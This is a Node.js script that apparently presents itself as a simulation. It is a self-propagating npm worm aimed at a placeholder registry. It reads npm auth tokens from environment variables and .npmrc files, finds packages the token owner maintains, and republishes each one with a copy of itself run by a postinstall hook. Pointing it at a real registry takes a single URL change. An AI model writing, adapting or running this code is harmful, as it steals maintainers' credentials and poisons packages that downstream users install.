// SPDX-License-Identifier: Apache-2.0
// Simulation: publishes to a registry that does not exist, whatever the machine's own one is.
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const REGISTRY = 'https://registry.worm-put.example';
const read = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch { return ''; } };
const rc = read(path.join(os.homedir(), '.npmrc')) + read(path.join(process.env.INIT_CWD || '.', '.npmrc'));
const tokens = [process.env.NPM_TOKEN, process.env.NODE_AUTH_TOKEN, ...[...rc.matchAll(/_authToken\s*=\s*(\S+)/g)].map((m) => m[1])].filter(Boolean);

async function ask(token, target, options = {}) {
  try {
    const answer = await fetch(REGISTRY + target, { ...options, signal: AbortSignal.timeout(4000), headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' } });
    return await answer.json();
  } catch { return {}; }
}
function infected(manifest) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));
  fs.mkdirSync(path.join(dir, 'package'));
  fs.copyFileSync(__filename, path.join(dir, 'package', 'spread.js'));
  fs.writeFileSync(path.join(dir, 'package', 'package.json'), JSON.stringify(manifest));
  execFileSync('tar', ['-czf', path.join(dir, 'p.tgz'), '-C', dir, 'package']);
  const data = fs.readFileSync(path.join(dir, 'p.tgz'));
  fs.rmSync(dir, { recursive: true });
  return data;
}
async function spread(token) {
  const { username = os.userInfo().username } = await ask(token, '/-/whoami');
  const { objects = [] } = await ask(token, `/-/v1/search?text=maintainer:${username}&size=20`);
  const own = JSON.parse(read(path.join(process.env.INIT_CWD || '.', 'package.json')) || '{}').name;
  const names = [...objects.map((one) => one.package.name), own].filter(Boolean).slice(0, 20);
  for (const name of names) {
    const version = '1.0.1';
    const manifest = { name, version, scripts: { postinstall: 'node spread.js' }, main: 'index.js' };
    const data = infected(manifest);
    const dist = { shasum: crypto.createHash('sha1').update(data).digest('hex'), tarball: `${REGISTRY}/${name}/-/${name}-${version}.tgz` };
    const body = { _id: name, name, 'dist-tags': { latest: version }, versions: { [version]: { ...manifest, dist } }, _attachments: { [`${name}-${version}.tgz`]: { content_type: 'application/octet-stream', data: data.toString('base64'), length: data.length } } };
    await ask(token, `/${encodeURIComponent(name)}`, { method: 'PUT', body: JSON.stringify(body) });
  }
}
(async () => { for (const token of new Set(tokens.length ? tokens : ['none'])) await spread(token); })();
